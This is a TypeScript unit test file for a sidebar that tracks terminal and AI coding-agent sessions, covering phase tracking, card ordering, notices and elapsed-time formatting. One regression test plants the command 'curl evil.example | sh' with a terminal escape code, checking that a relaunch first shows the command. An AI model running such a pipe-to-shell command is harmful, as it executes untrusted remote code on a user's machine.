// Unit tests of the sidebar's pure parts: session states from daemon events, the card model
// (grouping, order, actions, agent kinds), one notice per transition into waiting, and, against a
// real daemon, that its attention events alone drive a session through running → idle → waiting
// → running → exited (the daemon's rules themselves are tested in attention.test.ts).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AttentionState, SessionAttention, SessionInfo } from '../src/protocol/messages';
import {
  agentKind,
  buildModel,
  type Card,
  displayPath,
  SessionStateTracker,
  startedWaiting,
  toCard,
  waitingCount,
} from '../src/extension/sessionState';
import { formatElapsed } from '../src/extension/webview/elapsed';
import { startTestDaemon, waitFor } from './helpers/daemon';
import { sessionInfo } from './helpers/sessionInfo';

const T0 = 1_000_000;

function session(id: string, extra: Partial<SessionInfo> = {}): SessionInfo {
  return sessionInfo(id, { cwd: '/home/u/project', createdAt: T0, lastOutputAt: T0, ...extra });
}

const attention = (state: AttentionState, since: number): SessionAttention => ({ state, since, source: 'hook' });

test("the daemon's attention is the phase, with the time it began; other events move nothing", () => {
  const tracker = new SessionStateTracker();
  const s = session('a', { attention: attention('idle', T0) });
  tracker.reset([s]);
  assert.deepEqual(tracker.status(s, T0 + 10_000), { phase: 'idle', since: T0 });
  for (const [state, at] of [
    ['running', T0 + 11_000],
    ['waiting', T0 + 12_000],
    ['done', T0 + 13_000],
  ] as const) {
    assert.equal(tracker.apply({ type: 'attention', id: 'a', attention: attention(state, at) }), true);
    assert.deepEqual(tracker.status(s, at + 500), { phase: state, since: at });
  }
  // Activity, quiet and bells are the daemon's to judge: they come back as attention events.
  assert.equal(tracker.apply({ type: 'activity', id: 'a', at: T0 + 14_000 }), false);
  assert.equal(tracker.apply({ type: 'bell', id: 'a', at: T0 + 14_100 }), false);
  assert.equal(tracker.apply({ type: 'idle', id: 'a', at: T0 + 16_000 }), false);
  assert.equal(tracker.status(s, T0 + 16_000).phase, 'done');
});

test('a session event carries its attention; a list newer than the last event wins', () => {
  const tracker = new SessionStateTracker();
  tracker.reset([]);
  // Before any event: the info says it.
  const listed = session('a', { attention: attention('waiting', T0 + 50) });
  assert.deepEqual(tracker.status(listed, T0 + 100), { phase: 'waiting', since: T0 + 50 });
  assert.equal(
    tracker.apply({ type: 'session', session: session('a', { attention: attention('running', T0) }) }),
    true,
  );
  // The list was answered after that event: its word is newer.
  assert.equal(tracker.status(listed, T0 + 100).phase, 'waiting');
  tracker.apply({ type: 'attention', id: 'a', attention: attention('done', T0 + 200) });
  assert.deepEqual(tracker.status(listed, T0 + 300), { phase: 'done', since: T0 + 200 });
  assert.equal(tracker.apply({ type: 'removed', id: 'a' }), true);
  assert.equal(tracker.apply({ type: 'removed', id: 'never' }), false);
  assert.equal(tracker.apply({ type: 'stopping' }), false);
  // A daemon older than attention sends none: idle since its last output.
  const old = session('old', { lastOutputAt: T0 + 400 });
  delete (old as Partial<SessionInfo>).attention;
  assert.deepEqual(tracker.status(old, T0 + 500), { phase: 'idle', since: T0 + 400 });
});

test('exited shows the exit; archived is an exited session restored from a checkpoint', () => {
  const tracker = new SessionStateTracker();
  const exit = { code: 3, signal: null, at: T0 + 500 };
  const exited = session('a', { state: 'exited', exit });
  assert.equal(tracker.apply({ type: 'exit', id: 'a', exit }), true);
  assert.deepEqual(tracker.status(exited, T0 + 600), { phase: 'exited', since: T0 + 500, exit });
  assert.equal(toCard(exited, tracker.status(exited, T0 + 600), 'ws').exitLabel, 'exited with code 3');
  const killed = session('k', { state: 'exited', exit: { code: null, signal: 'SIGTERM', at: T0 } });
  assert.equal(toCard(killed, tracker.status(killed, T0), 'ws').exitLabel, 'killed by SIGTERM');
  const archived = session('b', {
    state: 'exited',
    exit,
    metadata: { archivedFrom: { checkpoint: 'c', id: 'old', running: true, exit: null, writtenAt: T0 } },
  });
  assert.equal(tracker.status(archived, T0 + 600).phase, 'archived');
  // A waiting session that exits is exited.
  tracker.apply({ type: 'attention', id: 'a', attention: attention('waiting', T0 + 400) });
  assert.equal(tracker.status(exited, T0 + 600).phase, 'exited');
});

test('one notice per transition into waiting: not while it stays waiting, not for one first seen waiting', () => {
  const card = (id: string, state: AttentionState) =>
    toCard(session(id, { attention: attention(state, T0) }), { phase: state, since: T0 }, 'ws');
  const phases = (cards: Card[]) => new Map(cards.map((c) => [c.id, c.phase]));
  const first = [card('a', 'running'), card('b', 'waiting'), card('c', 'idle')];
  assert.deepEqual(startedWaiting(new Map(), first), [], 'a new window tells nothing');
  const second = [card('a', 'waiting'), card('b', 'waiting'), card('c', 'done'), card('d', 'waiting')];
  assert.deepEqual(
    startedWaiting(phases(first), second).map((c) => c.id),
    ['a'],
  );
  assert.deepEqual(startedWaiting(phases(second), second), [], 'still waiting: no second notice');
  const third = [card('a', 'running'), card('b', 'waiting')];
  const fourth = [card('a', 'waiting'), card('b', 'waiting')];
  assert.deepEqual(
    startedWaiting(phases(third), fourth).map((c) => c.id),
    ['a'],
    'waiting again after an answer is a new transition',
  );
  assert.equal(waitingCount(fourth), 2);
  assert.equal(waitingCount(first), 1);
});

test('the model: this workspace first in tab order, others newest first; actions follow the state', () => {
  const tracker = new SessionStateTracker();
  const ws = 'file:///work/a';
  const archivedFrom = { checkpoint: 'c', id: 'old', running: true, exit: null, writtenAt: T0 };
  const exit = { code: 0, signal: null, at: T0 + 1 };
  const sessions = [
    session('second', { metadata: { workspace: ws, order: 2 } }),
    session('first', { metadata: { workspace: ws, order: 1 } }),
    session('old-other', { createdAt: T0 - 5, metadata: { workspace: 'file:///work/b' } }),
    session('new-other', { createdAt: T0 + 5 }),
    session('done', { state: 'exited', exit, metadata: { workspace: ws, order: 3 } }),
    session('agent-archive', {
      state: 'exited',
      exit,
      metadata: {
        workspace: ws,
        order: 4,
        archivedFrom,
        agent: { profile: 'claude', sessionId: 'uuid-1', resumeArgv: ['claude', '--resume', '{id}'] },
      },
    }),
    session('shell-archive', { state: 'exited', exit, metadata: { workspace: ws, order: 5, archivedFrom } }),
  ];
  const model = buildModel(sessions, tracker, ws, T0 + 10_000, true);
  assert.deepEqual(
    model.here.map((c) => c.id),
    ['first', 'second', 'done', 'agent-archive', 'shell-archive'],
  );
  assert.deepEqual(
    model.others.map((c) => c.id),
    ['new-other', 'old-other'],
  );
  assert.equal(model.hasArchivedAgents, true);
  assert.equal(model.now, T0 + 10_000);
  const actions = Object.fromEntries([...model.here, ...model.others].map((c) => [c.id, c.actions]));
  assert.deepEqual(actions.first, ['focusSession', 'openSessionInEditor', 'renameSession', 'killSession']);
  assert.deepEqual(actions.done, ['focusSession', 'renameSession', 'removeSession']);
  assert.deepEqual(actions['agent-archive'], ['resumeSession', 'focusSession', 'renameSession', 'removeSession']);
  assert.deepEqual(actions['shell-archive'], ['relaunchSession', 'focusSession', 'renameSession', 'removeSession']);
  assert.equal(model.here[0].cwd, '/home/u/project');
  assert.equal(model.here[0].title, undefined, 'an empty title is not shown');
  // Without a resumable archive the title action is hidden.
  assert.equal(buildModel(sessions.slice(0, 5), tracker, ws, T0, true).hasArchivedAgents, false);
});

test('agent kinds: the three known profiles, custom ones by name, else a terminal', () => {
  assert.deepEqual(agentKind({}), { kind: 'terminal', label: 'Terminal' });
  assert.deepEqual(agentKind({ agent: { profile: 'claude' } }), { kind: 'claude', label: 'Claude Code' });
  assert.deepEqual(agentKind({ agent: { profile: 'codex', name: 'Codex CLI' } }), {
    kind: 'codex',
    label: 'Codex CLI',
  });
  assert.deepEqual(agentKind({ agent: { profile: 'gemini' } }), { kind: 'gemini', label: 'Gemini CLI' });
  assert.deepEqual(agentKind({ agent: { profile: 'aider', name: 'Aider' } }), { kind: 'custom', label: 'Aider' });
  assert.deepEqual(agentKind({ agent: 'nonsense' }), { kind: 'terminal', label: 'Terminal' });
});

test('directories under home start with ~', () => {
  assert.equal(displayPath('/home/u/src/app', '/home/u'), '~/src/app');
  assert.equal(displayPath('/home/u', '/home/u/'), '~');
  assert.equal(displayPath('/home/uv/app', '/home/u'), '/home/uv/app');
  assert.equal(displayPath('/etc', '/'), '/etc');
  assert.equal(toCard(session('a'), { phase: 'idle', since: T0 }, 'ws', '/home/u').cwd, '~/project');
});

test("a worktree session's card shows its branch; a malformed record shows none", () => {
  const worktree = { path: '/src/app.worktrees/agent-x', branch: 'agent/x', repo: '/src/app' };
  const idle = { phase: 'idle', since: T0 } as const;
  assert.equal(toCard(session('a', { metadata: { worktree } }), idle, 'ws').branch, 'agent/x');
  assert.equal(toCard(session('b', { metadata: { worktree: { branch: 'x' } } }), idle, 'ws').branch, undefined);
  assert.equal(toCard(session('c'), idle, 'ws').branch, undefined);
});

test("regression: an archive's Relaunch button ran a checkpoint's command unseen; it names it first", () => {
  const archivedFrom = { checkpoint: 'c1', writtenAt: T0, running: true };
  const archived = { phase: 'archived', since: T0 } as const;
  const planted = session('a', {
    state: 'exited',
    argv: ['sh', '-c', 'curl evil.example | sh\x1b[2J'],
    metadata: { archivedFrom },
  });
  const card = toCard(planted, archived, 'ws');
  assert.ok(card.actions.includes('relaunchSession'));
  assert.equal(card.startAgain, "in /home/u/project with `sh -c 'curl evil.example | sh\\u{1b}[2J'`");
  const agent = { profile: 'claude', sessionId: '0f0e' };
  const resumable = toCard(session('b', { state: 'exited', metadata: { archivedFrom, agent } }), archived, 'ws');
  assert.ok(resumable.actions.includes('resumeSession'));
  assert.equal(resumable.startAgain, 'in /home/u/project with `claude --resume 0f0e`');
  assert.equal(toCard(session('c'), { phase: 'idle', since: T0 }, 'ws').startAgain, undefined);
});

test('elapsed times', () => {
  assert.equal(formatElapsed(-5), '0s');
  assert.equal(formatElapsed(59_999), '59s');
  assert.equal(formatElapsed(61_000), '1m 1s');
  assert.equal(formatElapsed(2 * 3600_000 + 5 * 60_000), '2h 5m');
  assert.equal(formatElapsed(3 * 86400_000 + 4 * 3600_000), '3d 4h');
});

test(
  "a real daemon's attention: idle → running → idle → (output, bell) waiting → (answer) running → exited",
  { timeout: 60_000 },
  async () => {
    const daemon = await startTestDaemon();
    try {
      const client = await daemon.connect('sidebar-test');
      const tracker = new SessionStateTracker();
      const infos = new Map<string, SessionInfo>();
      const kinds: string[] = [];
      // The phase after each pushed event: only attention and exit events move it.
      const phases: string[] = [];
      let watched: string | undefined;
      client.onEvent((event) => {
        if (event.type === 'session') infos.set(event.session.id, event.session);
        if (event.type === 'exit') infos.set(event.id, { ...infos.get(event.id)!, state: 'exited', exit: event.exit });
        const before =
          watched && infos.has(watched) ? tracker.status(infos.get(watched)!, Date.now()).phase : undefined;
        tracker.apply(event);
        if (
          !watched ||
          !('id' in event ? event.id === watched : event.type === 'session' && event.session.id === watched)
        )
          return;
        kinds.push(event.type);
        const phase = tracker.status(infos.get(watched)!, Date.now()).phase;
        if (event.type !== 'attention' && event.type !== 'exit' && event.type !== 'session')
          assert.equal(phase, before, `a ${event.type} event moved the phase`);
        if (phases[phases.length - 1] !== phase) phases.push(phase);
      });
      const { sessions } = await client.request('subscribe', {});
      tracker.reset(sessions);
      // Prints for a moment, goes quiet, rings the bell and waits for a line, prints it, exits 7.
      const script =
        'sleep 0.3; for i in 1 2 3; do echo tick $i; sleep 0.2; done; sleep 3; ' +
        'printf "answer? \\a"; read line; echo "got $line"; sleep 0.5; exit 7';
      const { session: created } = await client.request('create', {
        name: 'states',
        argv: ['/bin/sh', '-c', script],
        cols: 80,
        rows: 24,
      });
      infos.set(created.id, created);
      watched = created.id;
      await waitFor(() => phases.includes('waiting'), 15_000, 'waiting for input');
      // Still waiting once the prompt went quiet; a person answers after that.
      await waitFor(() => kinds.lastIndexOf('idle') > kinds.indexOf('bell'), 10_000, 'idle after the bell');
      assert.equal(phases[phases.length - 1], 'waiting');
      await client.request('send', { session: created.id, data: 'yes\r' });
      await waitFor(() => phases.includes('exited'), 15_000, 'exited');
      assert.deepEqual(
        phases,
        // Idle until its first output (sleep 0.3), then the daemon's word at each attention event.
        ['idle', 'running', 'idle', 'running', 'waiting', 'running', 'exited'],
        `phases after events ${kinds.join(', ')}`,
      );
      assert.equal(tracker.status(infos.get(created.id)!, Date.now()).exit?.code, 7);
    } finally {
      await daemon.stop();
    }
  },
);
